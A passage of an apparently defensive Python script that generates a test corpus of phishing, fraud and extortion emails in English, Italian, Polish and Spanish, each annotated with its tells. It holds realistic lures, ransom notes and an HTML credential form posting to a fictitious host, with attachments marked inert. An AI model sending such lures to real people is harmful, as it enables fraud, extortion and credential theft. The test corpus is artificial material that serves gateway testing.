    Immigration Enforcement is conducting a compliance review of employers in the recruitment and temporary labour sector in the North West. Our records indicate that online right to work checks for **37 workers** supplied by your organisation between 1 April and 30 September 2026 could not be matched to a valid share code.

    To avoid a civil penalty of up to £60,000 per illegal worker, please review the affected records and upload your statutory excuse evidence within 7 days.

    [[Review affected workers|https://employer.righttowork-homeoffice.uk/review?ref=RTW-2026-448193]]

    You will need to sign in with your Government Gateway credentials or your company Microsoft account.

    Yours faithfully,

    Employer Compliance Team
    Immigration Enforcement
    Home Office
    '''), html_opts=dict(font='Arial, sans-serif', button='#00703c',
                         head='<div style="background:#0b0c0c;color:#fff;padding:12px 16px;font-size:20px;font-weight:bold;margin-bottom:16px">GOV.UK</div>\n'),
    **I(sendgrid('149.72.134.88', 'mfzqkbpw')),
    what='Fake UK Home Office right-to-work audit for a labour supplier with civil-penalty threat; link to credential page accepting Government Gateway or Microsoft logins',
    why='Government mail comes from *.gov.uk, not righttowork-homeoffice.uk via SendGrid; asks for credentials')

msg(A, '12-en-gift-card-ceo-gmail', 'en', 'utf-8',
    ('Markus Hoffmann', 'markus.hoffmann.office@gmail.com'), ['EP'],
    'Re: Quick task', '2026-11-26 12:05',
    T('''
    Thanks Eleni.

    We want to surprise the warehouse team leads in Aspropyrgos with a small thank-you for the peak season, but the client mustn't know before Friday's event. Please buy 10 Google Play gift cards of €100 each (any kiosk or supermarket will have them), scratch the back and send me clear photos of the codes here. Petra will reimburse you through expenses tomorrow.

    Please keep it between us for now, I want it to be a surprise.

    Markus

    Sent from my iPhone

    On Thu, 26 Nov 2026 at 11:52, Eleni Papadopoulou <eleni.papadopoulou@example.com> wrote:
    > Hi Markus, yes I'm in the office. How can I help?
    >
    > On Thu, 26 Nov 2026 at 10:48, Markus Hoffmann <markus.hoffmann.office@gmail.com> wrote:
    >> Hi Eleni,
    >> Are you at your desk? I need your help with something discreet this morning. I'm in a board meeting until late afternoon and can only write.
    >> Markus
    '''),
    extra=['In-Reply-To: ' + make_mid('exch', 'ep-quick', 'EXHQ02.corp.example.com'), 'References: ' + make_mid('gmail', 'mh-quick', '') + '\n ' + make_mid('exch', 'ep-quick', 'EXHQ02.corp.example.com')],
    **I(gmail('lj1-f171', '209.85.208.171')),
    what='Gift-card scam, second stage: fake CEO on Gmail asks the Athens office manager to buy Google Play cards and send photos of the codes',
    why='CEO display name on an unknown Gmail account, secrecy, gift-card codes requested by photo')

msg(A, '13-en-sextortion-spoofed-self', 'en', 'us-ascii',
    ('', 'lukas.fischer@example.com'), ['LF'],
    'Your account lukas.fischer@example.com is compromised - payment overdue', '2026-11-14 03:22',
    T(f'''
    Hello,

    I will get straight to the point. A few months ago I obtained access to the devices you use to browse the internet, through a vulnerability in the firmware of a router on a network you connected to. This message was sent from your own mailbox, which should show you how much access I have.

    Since then I have recorded your screen and your camera. I have copies of your contacts, your chats and your browsing history, including the sites you would rather nobody at work knew about. I have prepared a short video that combines both.

    I do not want to ruin your life. Transfer the equivalent of 1450 USD in Bitcoin to the address below and everything will be deleted permanently:

    {BTC1}

    If you do not know how, search for "buy bitcoin" - it takes ten minutes. You have 48 hours from the moment you open this e-mail; I will know when you read it. Do not reply, this address is not monitored. Contacting the police or your IT department will only make me send the video to all your colleagues and family immediately.

    Take care.
    '''), tz=-3, cte='7bit',
    rp='lukas.fischer@example.com',
    **I(bare('vps24187.publiccloud.com.br', 'vps24187.publiccloud.com.br', '191.252.203.47', tls=False),
        hops=['from [191.252.203.47] (helo=User) by vps24187.publiccloud.com.br with esmtpa (Exim 4.96)\n\t(envelope-from <lukas.fischer@example.com>) id 1vK{q}; {d}'],
        mailer='Microsoft Outlook Express 6.00.2900.5512'),
    what='Sextortion with spoofed sender = recipient and a Bitcoin (bech32) address',
    why='Own address forged from a Brazilian VPS that is not an example.com relay; extortion with crypto payment')

msg(A, '14-en-data-extortion-candidate-database', 'en', 'us-ascii',
    ('NightFall Disclosure', 'nightfall.disclosure@proton.me'), ['MH', 'CB', 'TB'],
    'Example Group - 212,418 candidate records - 72 hours before publication', '2026-12-01 02:14',
    T(f'''
    To the management of Example Group,

    Between 14 and 22 November our team had access to your applicant tracking system and the file share used by your recruiters. We copied 212,418 candidate profiles (CVs, passport and ID scans, right-to-work documents, bank details of temporary workers) and the payroll exports of your German, Polish and Spanish entities for 2025-2026.

    Proof of access - file listing excerpt:
    \\\\fs01\\HR\\Payroll\\DE\\2026-10\\Lohnjournal_2026-10.xlsx
    \\\\fs01\\Recruiting\\Kandidaten\\Export_ATS_2026-11-20.csv  (1.9 GB)
    \\\\fs01\\HR\\PL\\A1_zaswiadczenia\\2026\\

    Under Art. 33 GDPR you have 72 hours to notify your supervisory authority. We are giving you the same 72 hours to settle this privately. Pay 4.5 BTC to

    {BTC2}

    and we delete the data and provide a report on how we got in. If we see no payment, the data set will be published on our blog and sent to the Hessian data protection commissioner, to journalists and to a sample of the candidates.

    Do not waste time with your IT provider. Reply to this address to receive a Tor chat link.

    NightFall
    '''), tz=0, cte='7bit',
    **I(bare('mail-4322.protonmail.ch', 'mail-4322.protonmail.ch', '185.70.43.22')),
    what='Data-theft extortion against the company (candidate database, GDPR pressure) with a Base58Check Bitcoin address; likely bluff with generic paths',
    why='Anonymous Proton mailbox, crypto ransom, deadline; to be handled by incident response, not delivered plainly to executives')

msg(A, '15-en-docusign-abuse-ferretti-lookalike', 'en', 'utf-8',
    ('Chiara Colombo via Docusign', 'dse@eumail.docusign.net'), ['CB'],
    'Complete with Docusign: Ferretti Trasporti – Amended payment terms 2027.pdf', '2026-11-27 15:30',
    T('''
    Chiara Colombo sent you a document to review and sign.

    REVIEW DOCUMENT: https://eu.docusign.net/Signing/EmailStart.aspx?a=6f3b2c1e-8d47-4a2b-9e51-0c7d2a94b318&etti=24&acct=91d2c6a4-5e83-4f17-b2a9-3c61e0d47f25&er=8a4e1f62-7b39-4d05-a1c8-e2f97b6d3c40

    Chiara Colombo
    c.colombo@ferretti-trasporti-spa.com

    Dear Claudia,
    as agreed with your Milan office, please find attached the amended payment terms and the updated bank mandate for 2027. Please sign by Monday so that our treasury can process the December payments.
    Kind regards, Chiara

    Do Not Share This Email
    This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.

    About Docusign
    Sign documents electronically in just minutes. It's safe, secure, and legally binding.
    '''), html=T('''
    **Chiara Colombo sent you a document to review and sign.**

    [[REVIEW DOCUMENT|https://eu.docusign.net/Signing/EmailStart.aspx?a=6f3b2c1e-8d47-4a2b-9e51-0c7d2a94b318&etti=24&acct=91d2c6a4-5e83-4f17-b2a9-3c61e0d47f25&er=8a4e1f62-7b39-4d05-a1c8-e2f97b6d3c40]]

    **Chiara Colombo**
    c.colombo@ferretti-trasporti-spa.com

    Dear Claudia,
    as agreed with your Milan office, please find attached the amended payment terms and the updated bank mandate for 2027. Please sign by Monday so that our treasury can process the December payments.
    Kind regards, Chiara

    **Do Not Share This Email**
    This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.
    '''), tz=-8,
    reply_to=('Chiara Colombo', 'c.colombo@ferretti-trasporti-spa.com'), rp='bounces+9f2a1c@eumail.docusign.net',
    html_opts=dict(font='Helvetica, Arial, sans-serif', button='#ffc820',
                   head='<div style="background:#4c00ff;color:#fff;padding:20px;font-size:18px;margin-bottom:16px">Docusign</div>\n'),
    **I(bare('eumail1.docusign.net', 'eumail1.docusign.net', '185.81.101.94')),
    what='Abuse of a genuine e-signature service: attacker-owned Docusign account impersonates Ferretti (look-alike ferretti-trasporti-spa.com in body and Reply-To); the envelope leads to a credential page',
    why='Infrastructure is genuine Docusign, but the sender identity is a look-alike of the real customer domain ferretti-trasporti.it and the envelope concerns bank/payment terms')

_svg = T('''
<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="420" height="120" viewBox="0 0 420 120">
<rect width="420" height="120" fill="#f2f2f2"/>
<text x="20" y="50" font-family="Arial" font-size="18">Voice message (00:47)</text>
<text x="20" y="85" font-family="Arial" font-size="14" fill="#0067b8">Click to play</text>
<script type="text/javascript"><![CDATA[
// INERT PLACEHOLDER: real samples decode a base64 blob and redirect to a credential page.
var d = "SU5FUlQgUExBQ0VIT0xERVI=";
var t = "https://voicemail-secure.online/m/?e=" + "james.whitfield@example.com";
]]></script>
</svg>
''')

msg(A, '16-en-svg-voicemail-compromised-wordpress', 'en', 'us-ascii',
    ('Voicemail Service', 'voicemail@manchester-dentalcare.co.uk'), ['JF'],
    'Voice message from +44 161 496 0581 (00:47) - Thu 19 Nov', '2026-11-19 15:33',
    None, T('''
    **New voice message**

    From: +44 161 496 0581
    Duration: 00:47
    Received: Thu 19 Nov 2026 15:31

    The recording is attached to this message.
    '''), tz=0, cte='7bit',
    atts=[('VM_01614960581_1119.svg', 'image/svg+xml', _svg.encode('utf-8'))],
    html_opts=dict(font='Segoe UI, Arial, sans-serif'),
    **I(php_host('cp-wh-7.webhostserver.co.uk', '185.151.30.149', 'mancheste')),
    what='Voicemail notification with SVG attachment containing script (SVG smuggling/redirect; script inert) sent through a compromised WordPress site',
    why='Voicemail system is not a dental practice website; PHPMailer on shared hosting; SVG with JavaScript')

# ============================== ATTACK: Italian =============================
msg(A, '17-it-agenzia-entrate-770-zip', 'it', 'iso-8859-1',
    ('Agenzia delle Entrate', 'comunicazioni@agenziaentrate-notifiche.it'), ['MB'],
    "Comunicazione di irregolarità ai sensi dell'art. 36-bis DPR 600/73 - prot. 2026/CIR/0081457", '2026-11-06 09:18',
    T('''
    Gentile contribuente,

    a seguito del controllo automatizzato della dichiarazione Modello 770/2026 (periodo d'imposta 2025) presentata dalla Vostra società, sono emerse differenze tra le ritenute operate sui redditi di lavoro dipendente e i versamenti effettuati con modello F24.

    In allegato trasmettiamo la comunicazione di irregolarità con il dettaglio delle somme dovute. È possibile regolarizzare la posizione beneficiando della riduzione delle sanzioni entro 60 giorni dal ricevimento della presente.

    Per chiarimenti può rivolgersi a qualsiasi ufficio territoriale dell'Agenzia.

    Cordiali saluti

    Il Direttore Provinciale
    Agenzia delle Entrate - Direzione Provinciale II di Milano
    '''),
    atts=[('Comunicazione_2026_CIR_0081457.zip', 'application/zip', make_zip([
        ('Comunicazione_2026_CIR_0081457.pdf.js', INERT)]))],
    **I(bare('smtp.agenziaentrate-notifiche.it', 'host47-122-static.61-89-b.business.telecomitalia.it', '89.61.122.47'),
        mailer='Microsoft Outlook 16.0'),
    what='Fake Agenzia delle Entrate notice about the 770 withholding return (employer-specific) with ZIP containing a .pdf.js dropper (inert)',
    why='The Agenzia does not send tax notices as ZIP archives from agenziaentrate-notifiche.it; JavaScript file with double extension')

msg(A, '18-it-thread-hijack-ferretti-canva', 'it', 'utf-8',
    ('Chiara Colombo', 'c.colombo@ferretti-trasporti.it'), ['FR'],
    'R: Fattura n. 2026/IT/0912 - contestazione ore straordinari', '2026-11-18 17:24',
    T('''
    Ciao Francesca,

    come anticipato al telefono ti condivido il riepilogo delle ore contestate (turni notturni del 12-16 ottobre) e la distinta del bonifico parziale che abbiamo già disposto. Il file è su Canva perché il nostro SharePoint in questo periodo blocca gli utenti esterni.

    Riepilogo ore e distinta: https://www.canva.com/design/DAGx7Qp2mTk/view?utm_content=DAGx7Qp2mTk&utm_source=sharebutton

    Dacci un riscontro entro venerdì così sistemiamo anche la nota di credito.

    Grazie e buona serata,
    Chiara

    Chiara Colombo
    Responsabile Risorse Umane e Operations
    Ferretti Trasporti S.p.A. - Polo Logistico di Piacenza

    Da: Francesca Ricci <francesca.ricci@example.com>
    Inviato: martedì 17 novembre 2026 10:41
    A: Chiara Colombo <c.colombo@ferretti-trasporti.it>
    Oggetto: Fattura n. 2026/IT/0912 - contestazione ore straordinari

    Buongiorno Chiara,
    abbiamo ricevuto la vostra contestazione sulla fattura 2026/IT/0912. Ci potete mandare il dettaglio delle ore per lavoratore, così verifichiamo con i fogli presenza?
    Grazie, Francesca
    '''),
    html=T('''
    Ciao Francesca,

    come anticipato al telefono ti condivido il riepilogo delle ore contestate (turni notturni del 12-16 ottobre) e la distinta del bonifico parziale che abbiamo già disposto. Il file è su Canva perché il nostro SharePoint in questo periodo blocca gli utenti esterni.

    [[Apri Riepilogo_ore_e_distinta.pdf|https://www.canva.com/design/DAGx7Qp2mTk/view?utm_content=DAGx7Qp2mTk&utm_source=sharebutton]]

    Dacci un riscontro entro venerdì così sistemiamo anche la nota di credito.

    Grazie e buona serata,
    Chiara

    **Chiara Colombo**
    Responsabile Risorse Umane e Operations
    Ferretti Trasporti S.p.A. - Polo Logistico di Piacenza

    **Da:** Francesca Ricci <francesca.ricci@example.com>
    **Inviato:** martedì 17 novembre 2026 10:41
    **Oggetto:** Fattura n. 2026/IT/0912 - contestazione ore straordinari

    Buongiorno Chiara,
    abbiamo ricevuto la vostra contestazione sulla fattura 2026/IT/0912. Ci potete mandare il dettaglio delle ore per lavoratore, così verifichiamo con i fogli presenza?
    Grazie, Francesca
    '''),
    extra=['In-Reply-To: ' + make_mid('exch', 'fr-0912', 'EXHQ02.corp.example.com'),
           'References: ' + make_mid('exch', 'fr-0912', 'EXHQ02.corp.example.com'),
           'Thread-Topic: Fattura n. 2026/IT/0912 - contestazione ore straordinari', 'Content-Language: it-IT'],
    **I(m365('mail-vi1eur04on2118.outbound.protection.outlook.com', '40.107.8.118', 'VI1PR04MB6921', 'eurprd04')),
    what='Conversation hijack from the genuinely compromised mailbox of a real customer (Ferretti): replies in a real thread and links a Canva design that leads to a credential page',
    why='Correct sender domain and infrastructure, but the reply was sent at the attacker\'s initiative with a "document" hosted on a public design site instead of SharePoint; gateway should hold/rewrite based on link and sender-behaviour anomaly')

msg(A, '19-it-inps-durc-qr-pdf', 'it', 'iso-8859-15',
    ('INPS - Sportello Unico Previdenziale', 'durc-online@inps-sportellounico.it'), ['GR'],
    'Esito verifica regolarità contributiva (DURC On Line) - Prot. INPS_48817265', '2026-11-10 11:47',
    T(f'''
    Gentile Utente,

    si comunica che la verifica di regolarità contributiva avviata in data 09/11/2026 nei confronti dell'impresa EXAMPLE GROUP ITALIA S.R.L. (C.F. {EX_PIVA}) si è conclusa con esito IRREGOLARE per le seguenti posizioni:

    - INPS matricola 4927361845: omesso versamento contributi periodo 09/2026
    - Ebitemp: in attesa di riscontro

    L'impresa può regolarizzare la propria posizione entro 15 giorni dalla notifica dell'invito. Il dettaglio delle irregolarità è contenuto nel documento allegato.

    Per accedere al fascicolo è sufficiente inquadrare il codice QR presente nel documento con il proprio smartphone e autenticarsi con SPID o CIE.

    Distinti saluti
    INPS - Direzione Regionale Lombardia
    '''), cc=['MB'],
    atts=[('Invito_regolarizzazione_INPS_48817265.pdf', 'application/pdf', make_pdf([
        '# INPS - Invito a regolarizzare', 'Prot. INPS_48817265 del 10/11/2026',
        f'Impresa: EXAMPLE GROUP ITALIA S.R.L. - C.F. {EX_PIVA}', 'Esito: IRREGOLARE', '',
        'Inquadra il codice QR per visualizzare il fascicolo e regolarizzare:', '', '',
        'PLACEHOLDER - inert test document'], 'Invito a regolarizzare',
        qr_text=f'https://durc.inps-sportellounico.it/verifica?prot=INPS_48817265&cf={EX_PIVA}', qr_caption_y=440))],
    **I(bare('mail.inps-sportellounico.it', 'vps-3d1f7a22.vps.ovh.net', '51.91.27.184')),
    what='Fake INPS DURC "irregular" notice (critical for a staffing agency) with a PDF whose only call to action is a QR code leading to a fake SPID login (quishing)',
    why='INPS uses inps.it/PEC; the URL is only inside a QR image in a PDF to evade link scanning; look-alike domain on OVH VPS')

msg(A, '20-it-ceo-fraud-avvocato-escrow', 'it', 'utf-8',
    ('Avv. Paolo Rinaldi', 'p.rinaldi@rinaldi-legalpartners.com'), ['MB'],
    'Riservato – operazione straordinaria / incarico Dott. Hoffmann', '2026-12-02 10:14',
    T('''
    Gentile Dott. Bianchi,

    Le scrivo su indicazione del Dott. Markus Hoffmann, che mi ha chiesto di contattarLa direttamente in qualità di referente amministrativo per l'Italia.

    Il Gruppo sta finalizzando l'acquisizione di una società di somministrazione con sede a Brescia. L'operazione è coperta da un accordo di riservatezza con il cedente e, fino all'annuncio previsto per il 9 dicembre, non può essere discussa con altri colleghi, né a Milano né in Germania.

    Nell'ambito del closing è necessario versare entro oggi un deposito cauzionale di € 86.400,00 sul conto vincolato dello studio. Le coordinate Le saranno inviate in una comunicazione separata non appena mi conferma la Sua disponibilità.

    Il Dott. Hoffmann Le scriverà a breve per confermare l'incarico. La prego di rispondere esclusivamente a questo indirizzo.

    Cordiali saluti

    Avv. Paolo Rinaldi
    Rinaldi Legal & Partners
    Via Senato 12 – 20121 Milano
    '''),
    **I(m365('mail-am6eur05on2137.outbound.protection.outlook.com', '40.107.22.137', 'AS8PR05MB9128', 'eurprd05')),
    what='CEO fraud via fake lawyer: confidential acquisition, €86,400 escrow deposit today, secrecy towards colleagues, reply only to this address',
    why='Unknown "law firm" on a fresh domain in a Microsoft 365 trial tenant; invokes the CEO without him writing; classic BEC script')

msg(A, '21-it-aruba-sdi-scarto-login', 'it', 'utf-8',
    ('Aruba Fatturazione Elettronica', 'noreply@fatturazione-arubapec.it'), ['GR'],
    'Fattura FPR 118/26 scartata dal Sistema di Interscambio', '2026-11-25 08:36',
    None, T('''
    Gentile Cliente,

    la fattura elettronica n. **FPR 118/26** inviata al cliente FERRETTI TRASPORTI S.P.A. è stata **scartata** dal Sistema di Interscambio (SdI) con il seguente codice:

    00404 - Fattura duplicata

    Per evitare sanzioni per tardiva emissione, la fattura deve essere corretta e ritrasmessa entro 5 giorni dalla data della notifica di scarto.

    [[Accedi al pannello Fatturazione Elettronica|https://fatturazione-arubapec.it/login?ref=FPR11826&u=giulia.romano%40example.com]]

    Cordiali saluti
    Servizio Fatturazione Elettronica
    '''), hcte='base64',
    html_opts=dict(font='Arial, sans-serif', button='#f29100',
                   head='<div style="background:#f29100;color:#fff;padding:12px 16px;font-size:18px;font-weight:bold;margin-bottom:16px">Fatturazione Elettronica</div>\n'),
    **I(bare('mta-out3.fatturazione-arubapec.it', 'static.152.96.109.65.clients.your-server.de', '65.109.96.152')),
    what='Fake e-invoicing provider (Aruba) "SdI rejection" notice with login link',
    why='Provider brand on a look-alike domain hosted at Hetzner; credential lure exploiting SdI workflow')

# ============================== ATTACK: Polish ==============================
msg(A, '22-pl-partner-logistic-lookalike-zmiana-rachunku', 'pl', 'iso-8859-2',
    ('Tadeusz Zieliński', 't.zielinski@partner-logistic.pl'), ['PW'],
    'RE: Faktura FV/2026/11/214 - zmiana rachunku', '2026-11-23 13:10',
    T(f'''
    Dzień dobry Panie Piotrze,

    w nawiązaniu do naszej korespondencji uprzejmie informuję, że w związku z audytem wewnętrznym i zmianą banku obsługującego spółkę, płatność za fakturę FV/2026/11/214 (transport pracowników Poznań - Frankfurt, 18 400,00 PLN brutto) prosimy przelać na nowy rachunek:

    Partner Logistik sp. z o.o.
    Alior Bank S.A.
    {pl_grp(PLOG_FAKE)}

    Rachunek zostanie zgłoszony do wykazu podatników VAT (biała lista) w ciągu kilku dni roboczych - do tego czasu prosimy nie sugerować się komunikatem o braku rachunku na liście. Oficjalne pismo z podpisem Zarządu prześlę jutro.

    Ze względu na termin płatności (25.11) bardzo proszę o realizację przelewu jeszcze dziś lub jutro rano i potwierdzenie mailowe.

    Z poważaniem
    Tadeusz Zieliński
    Kierownik ds. Transportu
    Partner Logistik sp. z o.o.
    ul. Składowa 7, 61-897 Poznań

    -----Wiadomość oryginalna-----
    Od: Piotr Wiśniewski <piotr.wisniewski@example.com>
    Wysłano: piątek, 20 listopada 2026 09:12
    Temat: Faktura FV/2026/11/214

    Dzień dobry, potwierdzam otrzymanie faktury FV/2026/11/214, płatność zgodnie z terminem.
    Pozdrawiam, Piotr Wiśniewski
    '''), cc=['KN'],
    extra=['In-Reply-To: ' + make_mid('exch', 'pw-214', 'EXHQ02.corp.example.com'), 'Content-Language: pl-PL'],
    **I(bare('partner-logistic.pl', 'srv19.mikr.us', '185.238.72.19'), mailer='Microsoft Outlook 16.0', bstyle='outlook'),
    what='Supplier bank-detail change from look-alike partner-logistic.pl (real: partner-logistik.pl) in a hijacked thread; new Alior account "not yet on the VAT white list"',
    why='One-letter look-alike, cheap VPS, pre-emptively explains away the missing biała lista entry, urgency and e-mail-only confirmation')

_ksef = T('''
<!DOCTYPE html>
<html lang="pl"><head><meta charset="windows-1250"><title>KSeF - wizualizacja faktury</title></head>
<body style="font-family:Arial,sans-serif;background:#eef1f5">
<div style="max-width:420px;margin:70px auto;background:#fff;padding:30px;border-top:5px solid #d4213d">
<h3>Krajowy System e-Faktur</h3>
<p>Aby wyświetlić fakturę, uwierzytelnij się tokenem KSeF lub danymi logowania do e-Urzędu Skarbowego.</p>
<form action="https://ksef-mf.gov-pl.info/api/auth" method="post">
<p>NIP<br><input name="nip" value="7792547318"></p>
<p>Token KSeF / hasło<br><input name="token" type="password"></p>
<p><button>Zaloguj</button></p></form>
<!-- INERT PLACEHOLDER: credential form for gateway evaluation; host fictitious -->
</div></body></html>
''')

msg(A, '23-pl-ksef-faktura-html-zalacznik', 'pl', 'windows-1250',
    ('Krajowy System e-Faktur', 'powiadomienia@ksef-mf.gov-pl.info'), ['PW'],
    'KSeF: otrzymano nową fakturę ustrukturyzowaną', '2026-11-27 06:51',
    T(f'''
    Szanowni Państwo,

    w Krajowym Systemie e-Faktur udostępniono fakturę ustrukturyzowaną wystawioną na Państwa firmę (NIP {PL_NIP_EX}).

    Numer KSeF: 5213609827-20261127-8A1F2C9B3D47-5E
    Sprzedawca: „TRANS-POL” Usługi Transportowe Sp. z o.o.
    Kwota brutto: 24 366,00 PLN
    Termin płatności: 04.12.2026

    Wizualizacja faktury znajduje się w załączniku. Aby ją wyświetlić, otwórz plik i uwierzytelnij się tokenem KSeF lub danymi logowania do e-Urzędu Skarbowego.

    Wiadomość wygenerowana automatycznie - prosimy nie odpowiadać.
    Ministerstwo Finansów
    '''),
    atts=[('KSeF_faktura_5213609827-20261127.html', 'text/html', _ksef.encode('cp1250'))],
    **I(bare('mail.gov-pl.info', None, '45.88.91.203', tls=False)),
    what='Fake KSeF (Polish mandatory e-invoicing, 2026) notification with HTML attachment asking for the KSeF token / e-Urząd password',
    why='KSeF does not e-mail invoices as HTML login pages; domain gov-pl.info is not gov.pl; no rDNS, no TLS')

msg(A, '24-pl-zus-kontrola-a1-zip', 'pl', 'utf-8',
    ('Zakład Ubezpieczeń Społecznych', 'kontrola@zus-pue.com.pl'), ['KN'],
    'Zawiadomienie o zamiarze wszczęcia kontroli płatnika składek - 471000/KP/2026/1187', '2026-11-16 08:44',
    T(f'''
    Szanowni Państwo,

    Zakład Ubezpieczeń Społecznych Oddział w Poznaniu zawiadamia o zamiarze wszczęcia kontroli płatnika składek wobec EXAMPLE GROUP POLSKA SP. Z O.O. (NIP {fmt_nip(PL_NIP_EX)}).

    Zakres kontroli obejmuje prawidłowość obliczania składek na ubezpieczenia społeczne pracowników tymczasowych oraz zasadność wystawiania zaświadczeń A1 dla osób delegowanych do pracy na terytorium Niemiec w okresie 01.2024 - 09.2026.

    Zawiadomienie wraz z wykazem wymaganych dokumentów przesyłamy w załączniku (archiwum ZIP). Kontrola może zostać wszczęta nie wcześniej niż po upływie 7 dni od dnia doręczenia zawiadomienia.

    Z poważaniem
    Wydział Kontroli Płatników Składek
    ZUS Oddział w Poznaniu
    '''), cte='base64',
    atts=[('Zawiadomienie_KP_2026_1187.zip', 'application/zip', make_zip([
        ('Zawiadomienie_KP_2026_1187.pdf.lnk', INERT), ('Wykaz_dokumentow.pdf.lnk', INERT)]))],
    **I(bare('mx.zus-pue.com.pl', 'static-91-231-88-14.nowa-siec.pl', '91.231.88.14'), mailer='Microsoft Outlook 16.0'),
    what='Fake ZUS inspection notice about A1 certificates for workers posted to Germany (trade-specific) with ZIP of .lnk files (inert)',
    why='ZUS communicates through PUE/eZUS (zus.pl), not ZIP attachments from zus-pue.com.pl; LNK double extensions')

_qr_mb = 'https://mbank-firma.mtoken-aktywacja.com/qr/a?k=PL-7Q4N2X8R&src=mail'
msg(A, '25-pl-mbank-mtoken-qr-inline', 'pl', 'iso-8859-2',
    ('mBank S.A.', 'powiadomienia@mbank-firma.pl'), ['KN'],
    'Aktywuj nowe zabezpieczenie mToken dla konta firmowego do 30.11', '2026-11-24 09:02',
    T('''
    Szanowni Państwo,

    od 1 grudnia 2026 r. logowanie do bankowości internetowej dla firm oraz autoryzacja przelewów będą możliwe wyłącznie po aktywacji nowego zabezpieczenia mToken.

    Aby zachować dostęp do rachunków firmowych, zeskanuj kod QR aparatem telefonu i dokończ aktywację w aplikacji. Kod jest ważny 48 godzin.

    Ze względów bezpieczeństwa aktywacji nie można przeprowadzić na komputerze.

    Pozdrawiamy
    Zespół bankowości firmowej mBank
    '''),
    html=T('''
    <html><head><meta http-equiv="Content-Type" content="text/html; charset=__CS__"></head>
    <body style="font-family:Arial,sans-serif;font-size:14px;color:#222">
    <div style="max-width:600px;margin:auto">
    <div style="background:#ae0e30;color:#fff;padding:14px 18px;font-size:20px;font-weight:bold">mBank</div>
    <p>Szanowni Państwo,</p>
    <p>od 1 grudnia 2026 r. logowanie do bankowości internetowej dla firm oraz autoryzacja przelewów będą możliwe wyłącznie po aktywacji nowego zabezpieczenia <b>mToken</b>.</p>
    <p>Aby zachować dostęp do rachunków firmowych, zeskanuj poniższy kod QR aparatem telefonu i dokończ aktywację w aplikacji. Kod jest ważny 48 godzin.</p>
    <p style="text-align:center"><img src="cid:qr-mtoken@mbank" width="246" height="246" alt="kod QR"></p>
    <p style="font-size:12px;color:#666">Ze względów bezpieczeństwa aktywacji nie można przeprowadzić na komputerze.</p>
    <p>Pozdrawiamy<br>Zespół bankowości firmowej mBank</p>
    </div></body></html>
    '''),
    related=[('qr-mtoken@mbank', 'qr.png', 'image/png', qr_png(_qr_mb))],
    **I(sendgrid('168.245.66.49', 'xtpqjmzd')),
    what='Bank brand (mBank business) "mToken activation" with an inline QR image as the only link (quishing, forces the victim onto an unmanaged phone)',
    why='Look-alike domain mbank-firma.pl via SendGrid; URL hidden in QR image pointing to mtoken-aktywacja.com; "cannot be done on a computer" is a tell')

msg(A, '26-pl-sekstorsja-bitcoin', 'pl', 'utf-8',
    ('', 'agnieszka.kowalczyk@examplegroup.eu'), ['AK'],
    'Masz 48 godzin', '2026-11-08 23:41',
    T(f'''
    Cześć,

    piszę z Twojego własnego konta - sprawdź nadawcę, jeśli mi nie wierzysz. Kilka miesięcy temu zainfekowałem Twój komputer złośliwym oprogramowaniem, gdy odwiedzałaś jedną ze stron dla dorosłych. Od tego czasu mam dostęp do kamery, mikrofonu i wszystkich Twoich kontaktów, w tym współpracowników.

    Nagrałem film, na którym widać zarówno to, co oglądałaś, jak i Ciebie. Jednym kliknięciem mogę wysłać go do wszystkich osób z Twojej listy kontaktów.

    Nie chcę Ci niszczyć życia. Przelej równowartość 1300 USD w Bitcoinach na ten adres:

    {BTC3}

    Masz 48 godzin od otwarcia tej wiadomości. Po otrzymaniu płatności usunę nagranie i zniknę. Nie odpowiadaj na tę wiadomość i nie zgłaszaj sprawy na policję - od razu się o tym dowiem.
    '''), cte='8bit', rp='agnieszka.kowalczyk@examplegroup.eu', tz=7,
    **I(bare('static.vnpt.vn', 'static.vnpt.vn', '14.161.27.203', tls=False), mailer='Microsoft Outlook 16.0'),
    what='Polish sextortion, sender spoofed as the recipient, legacy Base58Check Bitcoin address',
    why='Forged own address from a Vietnamese consumer IP; extortion with crypto')

# ============================== ATTACK: Spanish =============================
msg(A, '27-es-agencia-tributaria-modelo-190', 'es', 'iso-8859-1',
    ('Agencia Tributaria', 'notificaciones@agenciatributaria-sede.es'), ['JM'],
    'Notificación electrónica pendiente: requerimiento Modelo 190 (ejercicio 2025)', '2026-11-09 10:02',
    T('''
    Estimado/a contribuyente:

    Le informamos de que tiene a su disposición en la Sede Electrónica de la Agencia Tributaria una notificación relativa a un requerimiento de información sobre el Modelo 190 (retenciones e ingresos a cuenta del IRPF sobre rendimientos del trabajo), ejercicio 2025.

    Se han detectado discrepancias entre las retenciones declaradas para 214 perceptores y las comunicadas por los propios trabajadores.

    Dispone de un plazo de 10 días hábiles para acceder a la notificación. Transcurrido dicho plazo, se entenderá rechazada y se continuará con el procedimiento.

    Acceder a la notificación: https://sede.agenciatributaria-sede.es/Sede/notificaciones?ref=A2810926190

    Para acceder necesitará Cl@ve o su certificado electrónico.

    Agencia Tributaria
    '''), html=T('''
    Estimado/a contribuyente:

    Le informamos de que tiene a su disposición en la Sede Electrónica de la Agencia Tributaria una notificación relativa a un **requerimiento de información sobre el Modelo 190** (retenciones e ingresos a cuenta del IRPF sobre rendimientos del trabajo), ejercicio 2025.

    Se han detectado discrepancias entre las retenciones declaradas para 214 perceptores y las comunicadas por los propios trabajadores.

    Dispone de un plazo de 10 días hábiles para acceder a la notificación. Transcurrido dicho plazo, se entenderá rechazada y se continuará con el procedimiento.

    [[Acceder a la notificación|https://sede.agenciatributaria-sede.es/Sede/notificaciones?ref=A2810926190]]

    Para acceder necesitará Cl@ve o su certificado electrónico.

    Agencia Tributaria
    '''), html_opts=dict(font='Arial, sans-serif', button='#245a8f',
                         head='<div style="border-bottom:3px solid #245a8f;padding:8px 0;margin-bottom:14px;font-size:16px;font-weight:bold;color:#245a8f">Agencia Tributaria</div>\n'),
    **I(bare('smtp.agenciatributaria-sede.es', 'ip-148-113-8-77.bhs.ovh.net', '148.113.8.77')),
    what='Fake Spanish tax agency notice about Modelo 190 (payroll withholding) with link to a Cl@ve login',
    why='AEAT uses agenciatributaria.gob.es; look-alike domain on OVH; credential harvesting')

msg(A, '28-es-ceo-fraud-onmicrosoft', 'es', 'utf-8',
    ('Markus Hoffmann', 'markus.hoffmann@examplegroupgmbh.onmicrosoft.com'), ['JM'],
